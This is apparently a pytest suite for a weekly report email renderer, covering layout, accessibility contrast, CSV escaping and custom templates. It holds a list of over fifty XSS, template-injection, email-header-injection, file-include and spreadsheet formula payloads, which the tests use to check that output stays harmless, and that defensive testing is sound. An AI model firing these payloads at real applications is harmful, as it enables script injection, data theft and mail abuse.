"""The letter: page, text, pictures, tables; what a hostile word does to them; what a team's own template may do."""

import csv
import io
import re
import zipfile
from collections import Counter
from dataclasses import replace
from html.parser import HTMLParser
from itertools import product
from pathlib import Path
from typing import Any

import pytest

from bench_report import LINKS, PAGES, a_report, incident, projects
from jobctl.errors import ConfigurationError
from jobctl.reports import charts, palette, rendering, tables, text_parts, views
from jobctl.reports.letter import Letter
from jobctl.reports.model import Report, Some
from jobctl.reports.view import Cell

VOID = {"img", "br", "meta", "hr", "link", "input", "area", "col"}
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><iframe src=//evil>",
    "</td></tr></table><script>alert(1)</script>",
    "</mj-text><mj-raw><script>alert(1)</script></mj-raw>",
    "<mj-include path='/etc/passwd' />",
    "<mj-raw><b>x</b></mj-raw>",
    "<!-- x",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "{{ 7*7 }}",
    "{% raw %}<b>{% endraw %}",
    "{{ view.__class__ }}",
    "{# comment #}",
    "${7*7}",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>1</script>",
    "vbscript:msgbox(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="https://evil.example">log in</a>',
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=p>",
    "<style>*{display:none}</style>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<meta http-equiv=refresh content='0;url=//evil'>",
    "<link rel=stylesheet href=//evil>",
    "<object data=//evil>",
    "<embed src=//evil>",
    "<math><mtext></mtext><script>1</script></math>",
    "<template><img src=x onerror=1></template>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "\r\nBcc: eve@example.org",
    "\nSubject: owned",
    "\r\n\r\n<script>alert(1)</script>",
    "\u2028Bcc: eve@example.org",
    "=?utf-8?q?owned?=",
    "\x00<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' style='background:url(javascript:1)",
    "=cmd|'/c calc'!A1",
    "<SCRIPT/SRC=//evil></SCRIPT>",
    "<<script>alert(1)//<</script>",
    "<img src='cid:revenue@report.jobctl.invalid' onload=alert(1)>",
]


class Page(HTMLParser):
    """The tags of a page as a browser would see them, with their attributes, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: Counter[str] = Counter()
        self.attributes: list[tuple[str, str, str]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data

    def all_of(self, tag: str, name: str) -> list[str]:
        return [value for of, attribute, value in self.attributes if (of, attribute) == (tag, name)]


def html_of(report: Report, links: Any = LINKS) -> str:
    """Without the pictures, which take long."""
    values = rendering._values(rendering.shown(report, links))
    source = rendering._filled(rendering._environment(None), rendering.PAGE, values)
    return rendering._page(source, None)


@pytest.fixture(scope="module")
def letter() -> Letter:
    report = a_report()
    return rendering.letter_of(rendering.shown(report, PAGES), report.bugs.shown, report.pulls.shown)


def test_page_and_text_say_the_same_numbers(letter: Letter) -> None:
    page = " ".join(Page(letter.html).text.split())
    text = " ".join(letter.text.split())
    view = views.view_of(a_report(), PAGES, charts.all_charts(a_report()))
    cells = [cell for tile in view.tiles for cell in (tile.value, tile.detail)]
    cells += [fact.value for section in view.sections for fact in section.facts]
    for cell in cells:
        assert cell.text in page and cell.text in text
    for section in view.sections:
        assert section.title in page and section.title.upper() in text


def test_every_picture_has_words_that_say_its_numbers(letter: Letter) -> None:
    page = Page(letter.html)
    sources, alts = page.all_of("img", "src"), page.all_of("img", "alt")
    assert sources == [f"cid:{image.content_id}" for image in letter.images] and len(sources) == 4
    assert alts == [image.alt for image in letter.images]
    for image in letter.images:
        assert len(re.findall(r"[0-9]", image.alt)) >= 4, image.alt
        assert image.png.startswith(b"\x89PNG") and image.content_id.count("@") == 1
    by_name = {image.content_id.partition("@")[0]: image.alt for image in letter.images}
    assert "12,750 USD on 22 Nov" in by_name["revenue"]
    assert "5 critical" in by_name["health"] or "6 critical" in by_name["health"]
    assert "metrics 167 of 168 runs succeeded (99.4 %)" in by_name["runs"]


def test_the_page_shown_in_a_browser_holds_its_pictures(letter: Letter) -> None:
    page = rendering.page_of(letter)
    assert page.count("data:image/png;base64,") == len(letter.images) and "cid:" not in page


def test_text_stays_within_its_lines_and_reads_alone(letter: Letter) -> None:
    for line in letter.text.splitlines():
        assert len(line) <= text_parts.WIDTH or line.strip().startswith(("http", "[http")), line
    assert letter.text.index("WHAT NEEDS A DECISION") < letter.text.index("REVENUE AT RISK")
    assert "<" not in letter.text and "&amp;" not in letter.text


def test_the_page_asks_nobody_for_anything_and_follows_the_readers_light(letter: Letter) -> None:
    page = Page(letter.html)
    assert "fonts.googleapis" not in letter.html and not page.tags["script"] and not page.tags["link"]
    assert ("meta", "name", "color-scheme") in page.attributes
    assert "prefers-color-scheme: dark" in letter.html and "max-width: 480px" in letter.html
    assert all(url.startswith("https://") for url in page.all_of("a", "href"))


@pytest.mark.parametrize(("text", "ground", "colours"), [*product(palette.TEXTS, palette.GROUNDS, ("LIGHT", "DARK"))])
def test_each_text_stands_out_from_its_ground(text: str, ground: str, colours: str) -> None:
    chosen = getattr(palette, colours)
    assert palette.contrast(chosen[text], chosen[ground]) >= 4.5


def test_text_in_charts_stands_out_too() -> None:
    assert round(palette.contrast("#ffffff", "#000000")) == 21
    for fill, ink in (*palette.BANDS.values(), *palette.HEAT.values()):
        assert palette.contrast(fill, ink) >= 4.5
    for line in (palette.MONEY, palette.PULLS, palette.BUGS):
        assert palette.contrast(line, palette.LIGHT["card"]) >= 3  # WCAG: parts of a picture


# Hostile words -------------------------------------------------------------------------------------------------------


def test_there_are_fifty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 50


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_hostile_word_in_every_field_stays_a_word(payload: str) -> None:
    """Names of projects cannot hold it on GitHub; here they do, and only lose their links."""
    plain, hostile = Page(html_of(a_report(" word"))), Page(html_of(a_report(payload)))
    assert hostile.tags - Counter({"a": 10_000}) == plain.tags - Counter({"a": 10_000})
    assert not [each for each in hostile.attributes if each[1].startswith("on") or each[1] in ("action", "formaction")]
    assert {name for _, name, _ in hostile.attributes} <= {name for _, name, _ in plain.attributes} | {"href"}
    for _, name, value in hostile.attributes:
        if name in ("href", "src"):
            assert value.startswith(("https://github.com/", "cid:")), value
    report = a_report(payload)
    text = rendering.text_of(rendering.shown(report, LINKS))
    assert "\x00" not in text
    view = views.view_of(report, LINKS, {})
    assert "\n" not in view.subject and "\r" not in view.subject


def test_a_link_is_http_or_nothing() -> None:
    for url in ("javascript:alert(1)", "data:text/html,x", "ftp://x", "//evil.example", ""):
        with pytest.raises(ValueError, match="http"):
            Cell("x", url)


def test_no_cell_of_a_table_is_a_formula(letter: Letter) -> None:
    words = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "=cmd|'/c calc'!A1", '"=1', "a,b\n=c", "plain"]
    rows = list(csv.reader(io.StringIO(tables.table(("a", "b"), [(word, -1.5) for word in words]).decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:]] == ["'" + word if word[0] in "=+-@\t\r" else word for word in words]
    assert {row[1] for row in rows[1:]} == {"-1.5"}  # a number stays one
    names = [each.filename for each in letter.attachments]
    assert names == ["projects.csv", "critical-bugs.csv", "stuck-pulls.csv", "jobs.csv", "branches.csv"]


# What is not known ---------------------------------------------------------------------------------------------------


def test_nothing_known_is_said_and_never_shown_as_zero() -> None:
    report = a_report(
        figures=None, trend=(), paces=(), projects=(), bugs=Some((), 0), unassigned=0, pulls=Some((), 0), branches=(),
        jobs=(), incidents=Some((), 0), embeddings=None,
        queue=replace(a_report().queue, tries=0, succeeded=0, failed=0, due=None, failed_tasks=None),
    )  # fmt: skip
    made = rendering.letter_of(rendering.shown(report, LINKS), (), ())
    assert made.images == () and made.attachments == ()
    for said in (
        "not known",
        "No figures were kept",
        "There is no branch.",
        "No run ended in this week.",
        "No project is followed.",
    ):
        assert said in made.text and said in made.html
    assert "0 USD" not in made.text and "0 %" not in made.text
    first = a_report(
        projects=tuple(
            replace(each, band="unknown", score=None, band_before=None, score_before=None) for each in projects()
        )
    )
    text = rendering.text_of(rendering.shown(first, LINKS))
    assert "not known" in text and "Nothing was kept a week before" in text


def test_of_more_incidents_than_are_known_the_time_is_that_of_the_known_ones() -> None:
    known = tuple(incident(nth) for nth in range(3))
    labels = [
        fact.label
        for total in (3, 70)
        for section in rendering.shown(a_report(incidents=Some(known, total)), LINKS).view.sections
        if section.title == "Incidents"
        for fact in section.facts
    ]
    assert labels == ["Open in this week", "Together", "Open in this week", "The first 3 together"]


def test_a_thousand_projects_fit_into_a_mail() -> None:
    many = tuple(
        replace(each, name=f"octo/project-{nth}-{at}") for nth, each in enumerate(projects()) for at in range(25)
    )
    report = a_report(projects=many)
    made = rendering.letter_of(rendering.shown(report, PAGES), report.bugs.shown * 10, report.pulls.shown * 10)
    size = (
        len(made.html.encode()) + len(made.text.encode()) + sum(len(each.content) * 4 / 3 for each in made.attachments)
    )
    assert size <= 100_000
    [archive] = made.attachments
    with zipfile.ZipFile(io.BytesIO(archive.content)) as held:
        assert held.read("projects.csv").count(b"\r\n") == 1_001


# Templates -----------------------------------------------------------------------------------------------------------


def test_a_teams_own_template_stands_in_for_the_built_in_one(tmp_path: Path) -> None:
    (tmp_path / "report.txt.j2").write_text("Hello, {{ view.subject }}\n")
    made = rendering.text_of(rendering.shown(a_report(), LINKS), templates=tmp_path)
    assert made == "Hello, Week 47: 4 critical bugs are nobody's\n"


@pytest.mark.parametrize(
    ("name", "text", "said"),
    [
        ("report.txt.j2", "{{ view.nothing }}", "cannot be filled"),
        ("report.txt.j2", "{% for %}", "line 1"),
        ("report.mjml.j2", "<mjml><mj-body>", "is no MJML"),
        ("report.mjml.j2", "{{ nobody }}", "cannot be filled"),
    ],
)
def test_a_fault_in_it_is_one_of_configuration(tmp_path: Path, name: str, text: str, said: str) -> None:
    (tmp_path / name).write_text(text)
    report = a_report(figures=None, trend=(), paces=(), projects=(), jobs=())
    with pytest.raises(ConfigurationError, match=said) as raised:
        rendering.letter_of(rendering.shown(report, LINKS), (), (), templates=tmp_path)
    assert "templates" in raised.value.hint
    with pytest.raises(ConfigurationError, match="is no directory"):
        rendering.text_of(rendering.shown(report, LINKS), templates=tmp_path / "nowhere")


def test_without_the_extra_it_says_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
    import importlib.util

    found = importlib.util.find_spec

    def find(name: str) -> object:
        return None if name == "mjml" else found(name)

    monkeypatch.setattr(importlib.util, "find_spec", find)
    with pytest.raises(ConfigurationError, match="mjml") as raised:
        rendering.require_packages()
    assert "pip install 'jobctl[report]'" in raised.value.hint
